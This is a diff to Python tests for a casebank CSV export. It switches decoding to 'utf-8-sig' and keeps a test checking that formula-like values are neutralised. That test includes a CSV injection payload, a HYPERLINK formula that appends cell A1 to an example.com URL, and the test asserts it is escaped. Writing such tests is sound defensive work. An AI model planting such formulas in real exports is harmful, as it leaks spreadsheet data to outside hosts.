@@ -108,7 +108,7 @@ def test_hostile_queries_do_not_break_the_search(client, cases):
 
 
 def test_csv_export_has_a_header_and_public_rows(client, cases):
-    content = b"".join(client.get("/fi/casebank/export.csv").streaming_content).decode()
+    content = b"".join(client.get("/fi/casebank/export.csv").streaming_content).decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(content)))
     assert {row["title"] for row in rows} == {
         cases["booking"].title,
@@ -154,7 +154,7 @@ def test_csv_export_never_hands_a_spreadsheet_a_formula(client, organisation):
         title='=HYPERLINK("https://example.com/?"&A1;"Avaa")',
         summary="+SUM(1;2)",
     )
-    content = b"".join(client.get("/fi/casebank/export.csv").streaming_content).decode()
+    content = b"".join(client.get("/fi/casebank/export.csv").streaming_content).decode("utf-8-sig")
     row = next(csv.DictReader(io.StringIO(content)))
     assert row["title"] == '\'=HYPERLINK("https://example.com/?"&A1;"Avaa")'
     assert row["summary"] == "'+SUM(1;2)"
